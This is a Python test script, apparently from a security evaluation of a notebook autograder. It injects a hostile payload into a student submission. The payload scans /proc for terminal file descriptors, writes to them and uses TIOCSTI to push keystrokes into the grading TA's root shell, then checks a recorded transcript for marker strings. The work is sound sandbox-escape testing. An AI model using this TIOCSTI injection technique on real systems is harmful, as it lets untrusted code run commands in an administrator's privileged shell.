"""a02: a TA runs `make grade` from a terminal (here: the grading command under `script`, which gives it a
controlling pseudo-terminal, as an interactive root shell would). The sandbox binds /dev/tty and the host has
dev.tty.legacy_tiocsti=1. The hostile kernel (ps1's first answer cell) looks for any way to that terminal:
open /dev/tty, every visible process's /proc/PID/fd/* and stat (tty_nr, session), and tries TIOCSTI (push
characters into the TA's root shell's input) and a plain write on every tty it reaches. A hit shows as
the marker ATTACK25-TTY in the terminal's transcript. Mallory + honest control."""
import os, sys, subprocess, json, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common25 import *  # noqa
from common25 import ROOT, PY, CANARY_ENV  # noqa

A = "ps1_memory"
PAYLOAD = r'''
import os as __os, fcntl as __f, termios as __t
def __try(path):
    try:
        fd = __os.open(path, __os.O_RDWR | __os.O_NOCTTY)
    except OSError as ex:
        print("TTYPROBE open", path, type(ex).__name__, ex.errno); return
    print("TTYPROBE opened", path, "isatty", __os.isatty(fd))
    try:
        __os.write(fd, b"\r\nATTACK25-TTY-WRITE\r\n"); print("TTYPROBE wrote", path)
    except OSError as ex:
        print("TTYPROBE write", path, ex.errno)
    if __os.isatty(fd):
        try:
            for ch in b"#ATTACK25-TTY-TIOCSTI":
                __f.ioctl(fd, __t.TIOCSTI, bytes([ch]))
            print("TTYPROBE TIOCSTI ok", path)
        except OSError as ex:
            print("TTYPROBE TIOCSTI", path, ex.errno)
    __os.close(fd)
__try("/dev/tty")
print("TTYPROBE self sid", __os.getsid(0), "pgid", __os.getpgid(0))
for __p in sorted(__os.listdir("/proc")):
    if not __p.isdigit(): continue
    try:
        st = open(f"/proc/{__p}/stat").read().rsplit(")", 1)[1].split()
        cmd = open(f"/proc/{__p}/cmdline", "rb").read()[:80]
        print("TTYPROBE proc", __p, cmd, "sid", st[3], "tty_nr", st[4])
    except OSError as ex:
        print("TTYPROBE proc", __p, ex); continue
    try:
        for fd in __os.listdir(f"/proc/{__p}/fd"):
            try:
                tgt = __os.readlink(f"/proc/{__p}/fd/{fd}")
            except OSError as ex:
                tgt = repr(ex)
            print("TTYPROBE  fd", __p, fd, tgt)
            if "pts" in tgt or "tty" in tgt or "ptmx" in tgt:
                __try(f"/proc/{__p}/fd/{fd}")
    except OSError as ex:
        print("TTYPROBE fds", __p, ex)
'''


def hostile():
    from tools.submissions import source_and_release
    import copy
    s, r = source_and_release(A)
    nb = copy.deepcopy(r)
    for c in nb.cells:
        if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            c.source = PAYLOAD + "\n" + c.source
            break
    return nb


def main():
    dest = "/tmp/attack25-a02"
    course(dest, {"mallory": hostile(), "zz_honest": honest(A)}, A)
    typescript = dest + "-typescript"
    cmd = f"{PY} -m grader.grade --course-dir {dest} --workers 1"
    print("$ script -qec '<clone>/.venv/bin/python -m grader.grade --course-dir", dest, "--workers 1'  (a controlling pty, as a TA's terminal)")
    env = {**os.environ, **CANARY_ENV}
    t = time.time()
    p = subprocess.run(["script", "-qec", cmd, typescript], cwd=ROOT, env=env, stdin=subprocess.DEVNULL,
                       capture_output=True, timeout=900)
    print(f"grade rc={p.returncode} in {time.time() - t:.0f}s")
    ts = open(typescript, "rb").read()
    print("transcript bytes", len(ts), "marker WRITE in transcript:", b"ATTACK25-TTY-WRITE" in ts,
          "marker TIOCSTI in transcript:", b"ATTACK25-TTY-TIOCSTI" in ts)
    print(ts[-1500:].decode(errors="replace").replace(ROOT, "<clone>"))
    sc = scores(dest)
    import glob, nbformat
    for pth in glob.glob(f"{dest}/autograded/mallory/{A}/*.ipynb"):
        nb = nbformat.read(pth, as_version=4)
        for c in nb.cells:
            for o in c.get("outputs", []):
                for line in o.get("text", "").splitlines():
                    if line.startswith("TTYPROBE"):
                        print(line[:400])
    print(f"RESULT: rc={p.returncode} scores {[(s, v['score'], v['max']) for s, v in sorted(sc.items())]}")
    cleanup(dest)
    os.unlink(typescript)


if __name__ == "__main__":
    main()
